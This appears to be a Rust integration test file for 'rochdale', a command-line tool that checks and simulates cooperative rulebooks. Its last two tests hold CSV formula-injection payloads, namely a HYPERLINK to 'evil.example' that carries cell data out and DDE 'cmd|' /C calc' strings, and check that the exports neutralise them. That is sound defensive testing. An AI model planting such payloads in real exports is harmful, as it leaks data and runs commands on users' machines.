//! The command line as a user runs it: exit codes, output, JSON.

use std::process::{Command, Output};

fn rochdale(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_rochdale"))
        .args(args)
        .env("NO_COLOR", "1")
        .output()
        .expect("the binary runs")
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn write_temp(name: &str, text: &str) -> std::path::PathBuf {
    let dir = std::env::temp_dir().join(format!("rochdale-cli-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("temp dir");
    let path = dir.join(name);
    std::fs::write(&path, text).expect("write");
    path
}

#[test]
fn check_accepts_the_example_rulebook() {
    let o = rochdale(&["check", "rulebooks/rochdale-1844.coop"]);
    assert_eq!(o.status.code(), Some(0), "{}", stdout(&o));
    assert!(stdout(&o).contains("ok    rulebooks/rochdale-1844.coop"));
}

#[test]
fn test_runs_every_example_and_ends_with_the_count() {
    let o = rochdale(&["test", "rulebooks/"]);
    assert_eq!(o.status.code(), Some(0), "{}", stdout(&o));
    let last = stdout(&o).lines().last().unwrap_or("").to_string();
    let (passed, failed) = last.split_once(" passed, ").expect("`N passed, M failed`");
    assert!(passed.parse::<usize>().expect("a count") >= 7);
    assert_eq!(failed, "0 failed");
}

#[test]
fn a_missing_file_is_an_input_error() {
    let o = rochdale(&["check", "rulebooks/no-such.coop"]);
    assert_eq!(o.status.code(), Some(2));
    let err = stderr(&o);
    assert!(
        err.contains("E0001") && err.contains("cannot find `rulebooks/no-such.coop`"),
        "{err}"
    );
}

#[test]
fn a_directory_without_rulebooks_is_an_input_error() {
    let o = rochdale(&["test", "src"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("E0502"));
}

#[test]
fn usage_errors_exit_2_with_help() {
    let o = rochdale(&["check"]);
    assert_eq!(o.status.code(), Some(2));
    let o = rochdale(&["--help"]);
    assert_eq!(o.status.code(), Some(0));
    assert!(stdout(&o).contains("Examples:"));
}

#[test]
fn a_rulebook_with_errors_exits_1() {
    let o = rochdale(&["check", "tests/diagnostics/money_plus_percent.coop"]);
    assert_eq!(o.status.code(), Some(1));
    let out = stdout(&o);
    assert!(
        out.contains("E0300") && out.contains("did you mean `fee * vat`"),
        "{out}"
    );
}

#[test]
fn a_failing_example_exits_1_and_shows_both_values() {
    let o = rochdale(&["test", "tests/diagnostics/failed_expectation.coop"]);
    assert_eq!(o.status.code(), Some(1));
    let out = stdout(&o);
    assert!(out.contains("FAIL  a good quarter"), "{out}");
    assert!(
        out.contains("expected £31.00, but the rules give £30.00"),
        "{out}"
    );
    assert!(out.trim_end().ends_with("0 passed, 1 failed"), "{out}");
}

#[test]
fn json_diagnostics_carry_code_place_and_help() {
    let path = write_temp(
        "bad.coop",
        "rulebook \"T\" currency GBP\nparameter fee: Money = £1\nrule x = fee + 5%\n",
    );
    let o = rochdale(&[
        "check",
        "--format",
        "json",
        path.to_str().expect("utf-8 path"),
    ]);
    assert_eq!(o.status.code(), Some(1));
    let v: serde_json::Value = serde_json::from_str(&stdout(&o)).expect("valid JSON");
    let d = &v["files"][0]["diagnostics"][0];
    assert_eq!(d["code"], "E0300");
    assert_eq!(d["severity"], "error");
    assert_eq!(d["line"], 3);
    assert_eq!(d["column"], 10);
    // "fee + 5%" starts at byte 26 + 23 + 9 of the file.
    let start = "rulebook \"T\" currency GBP\nparameter fee: Money = £1\nrule x = ".len();
    assert_eq!(d["span"]["start"], start);
    assert_eq!(d["span"]["end"], start + "fee + 5%".len());
    assert!(d["help"].as_str().is_some_and(|h| h.contains("fee * 5%")));
}

#[test]
fn json_test_output_has_a_stable_shape() {
    let o = rochdale(&[
        "test",
        "--format",
        "json",
        "tests/diagnostics/failed_expectation.coop",
    ]);
    assert_eq!(o.status.code(), Some(1));
    let out = stdout(&o);
    serde_json::from_str::<serde_json::Value>(&out).expect("valid JSON");
    insta::assert_snapshot!(out);
}

#[test]
fn json_output_is_identical_across_runs() {
    let a = stdout(&rochdale(&["test", "--format", "json", "rulebooks/"]));
    let b = stdout(&rochdale(&["test", "--format", "json", "rulebooks/"]));
    assert!(a.len() > 100);
    assert_eq!(a, b);
}

#[test]
fn explain_prints_a_derivation() {
    let o = rochdale(&[
        "explain",
        "rulebooks/rochdale-1844.coop",
        "--example",
        "a quarter with interest on capital",
        "--value",
        "dividend(ada)",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let out = stdout(&o);
    // £30.00 less £3.00, £0.75 and £0.18 of interest for the quarter's
    // 92 days: £26.07 × 120/200 = £15.642, down to £15.64
    assert!(out.contains("dividend(ada) = £15.64"), "{out}");
    assert!(
        out.contains("ada's share of £26.07: in proportion to £120.00 of £200.00"),
        "{out}"
    );
    let o = rochdale(&[
        "explain",
        "rulebooks/rochdale-1844.coop",
        "--example",
        "admission",
        "--value",
        "nope",
    ]);
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("E0200"));
}

#[test]
fn simulate_runs_the_rulebooks_scenario() {
    let o = rochdale(&["simulate", "rulebooks/rochdale-1844.coop"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let out = stdout(&o);
    assert!(
        out.contains("REFUSED: members must be 16 or over (article 13): 15 < 16"),
        "{out}"
    );
    assert!(
        out.contains("Trial balance: debits £3,006.00 = credits £3,006.00"),
        "{out}"
    );
    assert!(
        out.contains("REFUSED: withdrawals need notice (article 13): 14 < 30"),
        "{out}"
    );
    let dir = std::env::temp_dir().join(format!("rochdale-sim-{}", std::process::id()));
    let o = rochdale(&[
        "simulate",
        "rulebooks/rochdale-1844.coop",
        "--format",
        "csv",
        "--out",
        dir.to_str().expect("utf-8"),
    ]);
    assert_eq!(o.status.code(), Some(0));
    assert!(stdout(&o).starts_with("member,member_now,joined,left,"));
    for f in [
        "report.txt",
        "outcome.json",
        "statements.csv",
        "journal.csv",
        "trial_balance.csv",
    ] {
        assert!(dir.join(f).exists(), "{f} written");
    }
    let o = rochdale(&[
        "simulate",
        "rulebooks/rochdale-1844.coop",
        "--scenario",
        "first yaer",
    ]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("did you mean \"first year\"?"));
    let o = rochdale(&[
        "simulate",
        "rulebooks/rochdale-1844.coop",
        "--scenario-file",
        "tests/scenarios/malformed.json",
    ]);
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("E0600"));
    let o = rochdale(&[
        "explain",
        "rulebooks/rochdale-1844.coop",
        "--scenario",
        "first year",
        "--value",
        "dividend(smith)",
    ]);
    assert_eq!(o.status.code(), Some(0));
    // The last quarter's dividend: £7.65 by purchases, £9.00 of £184.60:
    // 37.30p, 37p (22p of it credited to capital, which reaches £5.00)
    assert!(
        stdout(&o).contains("dividend(smith) = £0.37"),
        "{}",
        stdout(&o)
    );
}

#[test]
fn fmt_checks_rewrites_and_reads_standard_input() {
    let o = rochdale(&["fmt", "--check", "rulebooks/"]);
    assert_eq!(o.status.code(), Some(0), "{}", stdout(&o));
    let path = write_temp(
        "messy.coop",
        "rulebook \"T\"   currency GBP\nparameter   fee: Money = £1   -- kept\nrule  x =fee*2\n",
    );
    let name = path.to_str().expect("utf-8");
    let o = rochdale(&["fmt", "--check", name]);
    assert_eq!(o.status.code(), Some(1));
    assert!(stdout(&o).contains("would reformat"), "{}", stdout(&o));
    let o = rochdale(&["fmt", name]);
    assert_eq!(o.status.code(), Some(0));
    let formatted = std::fs::read_to_string(&path).expect("written");
    assert_eq!(
        formatted,
        "rulebook \"T\" currency GBP\n\nparameter fee: Money = £1  -- kept\n\nrule x = fee * 2\n"
    );
    let o = rochdale(&["fmt", "--check", name]);
    assert_eq!(o.status.code(), Some(0));
    // Syntax errors: the file is left as it is.
    let broken = write_temp("broken.coop", "rulebook \"T\"\nrule x = (1 +\n");
    let o = rochdale(&["fmt", broken.to_str().expect("utf-8")]);
    assert_eq!(o.status.code(), Some(1));
    assert_eq!(
        std::fs::read_to_string(&broken).expect("kept"),
        "rulebook \"T\"\nrule x = (1 +\n"
    );
    // `-`: standard input to standard output.
    let mut child = Command::new(env!("CARGO_BIN_EXE_rochdale"))
        .args(["fmt", "-"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("runs");
    use std::io::Write as _;
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(b"rulebook \"T\"\nrule  x=1+2\n")
        .expect("write");
    let out = child.wait_with_output().expect("waits");
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "rulebook \"T\"\n\nrule x = 1 + 2\n"
    );
}

#[test]
fn a_division_by_zero_in_an_example_names_the_expect_line_and_member_in_text() {
    let o = rochdale(&[
        "test",
        "tests/diagnostics/division_by_zero_for_a_member.coop",
    ]);
    assert_eq!(o.status.code(), Some(1));
    let out = stdout(&o);
    for line in [
        "E0400",
        "  × division by zero",
        " 7 │   expect ratio(ada) = 1",
        "   ·                 ╰── while checking this expectation, for ada",
    ] {
        assert!(out.lines().any(|l| l == line), "missing {line:?} in\n{out}");
    }
}

#[test]
fn json_expectation_texts_end_with_the_expectation() {
    // rochdale-1844.coop's "admission": the third `expect` has a comment
    // under it (`-- £3.00 < £4.00`) and the fourth ends the example.
    let o = rochdale(&["test", "--format", "json", "rulebooks/rochdale-1844.coop"]);
    let parsed: serde_json::Value = serde_json::from_str(&stdout(&o)).expect("JSON");
    let admission = &parsed["files"][0]["examples"][0];
    assert_eq!(admission["name"], "admission");
    let texts: Vec<&str> = admission["expectations"]
        .as_array()
        .expect("expectations")
        .iter()
        .map(|x| x["text"].as_str().unwrap_or(""))
        .collect();
    assert_eq!(
        texts[2..4],
        [
            "not eligible(cy) because \"members must be {minimum_age} or over\"",
            "not eligible(dan) because \"members must hold the minimum shareholding\"",
        ]
    );
    for file in parsed["files"].as_array().expect("files") {
        for example in file["examples"].as_array().expect("examples") {
            for x in example["expectations"].as_array().expect("expectations") {
                let text = x["text"].as_str().unwrap_or("");
                assert_eq!(text, text.trim_end(), "{text:?}");
            }
        }
    }
}

#[test]
fn an_account_never_posted_to_is_shown_as_nil() {
    // In the first year, `young` (15) is refused: no capital, dividend or
    // interest was ever posted to them.
    let o = rochdale(&["simulate", "rulebooks/rochdale-1844.coop"]);
    let out = stdout(&o);
    let row: Vec<&str> = out
        .lines()
        .find(|l| l.trim_start().starts_with("young "))
        .expect("young's statement")
        .split_whitespace()
        .collect();
    // young, not, admitted, age, shares, purchases, quarterly_cost,
    // notice_given, purchases in each of the four quarters (not counted:
    // "-"), then the three accounts.
    assert_eq!(
        row[8..],
        ["-", "-", "-", "-", "£0.00", "£0.00", "£0.00"],
        "{row:?}"
    );
}

#[test]
fn test_reads_an_examples_member_file_beside_the_rulebook() {
    // tests/member-files/register.csv: ada 30, £30.00; ben 17, £10.00.
    let o = rochdale(&["test", "tests/member-files/examples-from-a-file.coop"]);
    assert_eq!(o.status.code(), Some(0), "{}{}", stdout(&o), stderr(&o));
    assert!(
        stdout(&o).ends_with("2 passed, 0 failed\n"),
        "{}",
        stdout(&o)
    );
}

#[test]
fn a_failed_expectation_that_reads_alike_when_rounded_is_written_exactly() {
    // £48 of £103 is 46.601941...%: shown as 46.6% for people, so the
    // failure would read "expected 46.6%, but the rules give 46.6%".
    let dir = std::env::temp_dir().join(format!("rochdale-exact-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("folder");
    let path = dir.join("percent.coop");
    std::fs::write(
        &path,
        "rulebook \"percent display\" currency GBP\n\n\
         parameter part_of: Money = £48.00\n\
         parameter whole: Money = £103.00\n\n\
         rule part: Percent = part_of / whole * 100%\n\n\
         example \"a share\" {\n  expect part = 46.6%\n}\n",
    )
    .expect("written");
    let o = rochdale(&["test", path.to_str().expect("a path")]);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stdout(&o).contains("expected 46.6%, but the rules give 46.60194174757281553398058252%"),
        "{}",
        stdout(&o)
    );
    let _ = std::fs::remove_dir_all(&dir);
}

/// `diff --members` reads a register as `simulate --members` does: its
/// columns mapped by hand (`--map`), slash dates in a stated order
/// (`--dates`), and a column the rules do not know noted, not refused.
#[test]
fn diff_reads_a_register_with_the_flags_simulate_has() {
    let register = write_temp(
        "diff-register.csv",
        "Full name,age,quarterly_cost,notice_given,email\nzed,40,\"1,200.00\",01/04/2026,z@example.org\n",
    );
    let folder = std::env::temp_dir().join(format!("rochdale-cli-diff-{}", std::process::id()));
    std::fs::create_dir_all(&folder).expect("temp dir");
    std::fs::copy(
        "rulebooks/rochdale-1844-founders.csv",
        folder.join("rochdale-1844-founders.csv"),
    )
    .expect("copy members");
    let old = std::fs::read_to_string("rulebooks/rochdale-1844.coop").expect("rulebook");
    let from = "parameter reserve_share: Percent = 10%";
    assert!(old.contains(from), "the 1844 rulebook has `{from}`");
    let new = folder.join("amended.coop");
    std::fs::write(
        &new,
        old.replace(from, "parameter reserve_share: Percent = 20%"),
    )
    .expect("write");
    let (new, register) = (
        new.to_str().expect("utf-8"),
        register.to_str().expect("utf-8"),
    );
    let base = [
        "diff",
        "rulebooks/rochdale-1844.coop",
        new,
        "--members",
        register,
    ];

    // Without the flags: no `name` column.
    let o = rochdale(&base);
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    let err = stderr(&o);
    assert!(err.contains("there is no column `name`"), "{err}");
    // Its name mapped, a date in no stated order.
    let mut args = base.to_vec();
    args.extend(["--map", "Full name=name"]);
    let o = rochdale(&args);
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    let err = stderr(&o);
    assert!(
        err.contains("`01/04/2026` could be 1 April 2026 or 4 January 2026")
            && err.contains("--dates day-first"),
        "{err}"
    );

    let mut args = base.to_vec();
    args.extend([
        "--map",
        "Full name=name",
        "--dates",
        "day-first",
        "--format",
        "json",
    ]);
    let o = rochdale(&args);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let json: serde_json::Value = serde_json::from_str(&stdout(&o)).expect("JSON");
    let members = json["simulation"]["members"].as_array().expect("members");
    // The scenario's 29 people and zed, who holds nothing: unchanged; the
    // note names the fifth column, `email`.
    assert_eq!(members.len(), 30, "{json}");
    let zed = members.iter().find(|m| m["name"] == "zed").expect("zed");
    assert_eq!(zed["changes"].as_array().map(Vec::len), Some(0), "{zed}");
    let notes: Vec<&str> = json["notes"]
        .as_array()
        .expect("notes")
        .iter()
        .filter_map(|n| n.as_str())
        .collect();
    assert_eq!(
        notes,
        [format!(
            "{register}: line 1, column 5: the rules have no attribute `email`; the column is ignored"
        )],
    );
}

/// An expression cut short is underlined at its last character, the point
/// after which something is missing (it was drawn with no underline).
#[test]
fn explain_underlines_an_unfinished_value_at_its_end() {
    let o = rochdale(&[
        "explain",
        "rulebooks/rochdale-1844.coop",
        "--example",
        "admission",
        "--value",
        "dividend(ada) +",
    ]);
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    let err = stderr(&o);
    let lines: Vec<&str> = err.lines().collect();
    let at = lines
        .iter()
        .position(|l| l.ends_with("1 │ dividend(ada) +"))
        .unwrap_or_else(|| panic!("the value is quoted in\n{err}"));
    let text_column = lines[at].find("dividend").expect("quoted");
    let mark = lines.get(at + 1).copied().unwrap_or("");
    // `+` is the 15th character: the mark stands under it.
    assert_eq!(
        mark.find('┬').map(|c| mark[..c].chars().count()),
        Some(lines[at][..text_column].chars().count() + 14),
        "{err}"
    );
    assert!(err.contains("expression:1:15"), "{err}");
}

/// A closed account (an expense closed to the surplus) is on neither side:
/// "£0.00", not "£0.00 Cr"; a balance keeps its side.
#[test]
fn a_closed_account_is_shown_without_a_side() {
    let o = rochdale(&["simulate", "rulebooks/thin-layer-network.coop"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let all = stdout(&o);
    let out = all
        .split("The cooperative's accounts")
        .nth(1)
        .unwrap_or_else(|| panic!("no accounts in\n{all}"));
    let row = |name: &str| {
        out.lines()
            .find(|l| l.trim_start().starts_with(name) && l.contains('£'))
            .map(|l| l.split_whitespace().collect::<Vec<_>>().join(" "))
            .unwrap_or_else(|| panic!("no {name} in\n{out}"))
    };
    assert_eq!(row("running costs"), "running costs £0.00");
    // £2,400.00 collected - £1,900.00 running costs.
    assert_eq!(row("cash "), "cash £500.00 Dr");
    assert_eq!(row("reserve "), "reserve £50.00 Cr");
}

#[test]
fn csv_cells_that_a_spreadsheet_would_read_as_formulas_are_written_as_text() {
    let dir = std::env::temp_dir().join(format!("rochdale-formulas-{}", std::process::id()));
    let o = rochdale(&[
        "simulate",
        "rulebooks/rochdale-1844.coop",
        "--scenario-file",
        "tests/scenarios/formula_names.json",
        "--format",
        "csv",
        "--out",
        dir.to_str().expect("utf-8"),
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let statements = std::fs::read_to_string(dir.join("statements.csv")).expect("written");
    let journal = std::fs::read_to_string(dir.join("journal.csv")).expect("written");
    // Each name after a `'` (the csv writer quotes the cell with `"` inside).
    assert!(
        statements.contains(r#""'=HYPERLINK(""http://evil.example/?q=""&A2,""Click me"")""#),
        "{statements}"
    );
    assert!(
        statements.contains("'@SUM(1+1)*cmd|' /C calc'!A0"),
        "{statements}"
    );
    for line in statements.lines().chain(journal.lines()) {
        for cell in line.split(',') {
            let first = cell.trim_start_matches('"').chars().next();
            assert!(!matches!(first, Some('=' | '@')), "{line}");
        }
    }
    // The journal's credit side names the member: `'=HYPERLINK(...): capital`;
    // £4.00 each is written 4.00, a number, untouched.
    assert!(
        journal.contains("'@SUM(1+1)*cmd|' /C calc'!A0"),
        "{journal}"
    );
    assert!(journal.contains(",4.00"), "{journal}");
    // Stdout is the statements, made safe the same way.
    assert!(stdout(&o).contains("'@SUM"), "{}", stdout(&o));
}

#[test]
fn a_signed_number_is_left_as_it_is_and_anything_else_signed_is_text() {
    use rochdale::simulate::sheets::safe_cell;
    // A loss of £84.40 is the number -84.40 in a CSV: left as it is.
    assert_eq!(safe_cell("-84.40"), "-84.40");
    assert_eq!(safe_cell("+3"), "+3");
    assert_eq!(safe_cell("smith"), "smith");
    // Not numbers: a formula, a sign alone, a point with nothing after it.
    assert_eq!(
        safe_cell("-2+3+cmd|' /C calc'!A0"),
        "'-2+3+cmd|' /C calc'!A0"
    );
    assert_eq!(safe_cell("-"), "'-");
    assert_eq!(safe_cell("-1."), "'-1.");
    assert_eq!(safe_cell("\tx"), "'\tx");
    assert_eq!(safe_cell("\rx"), "'\rx");
}
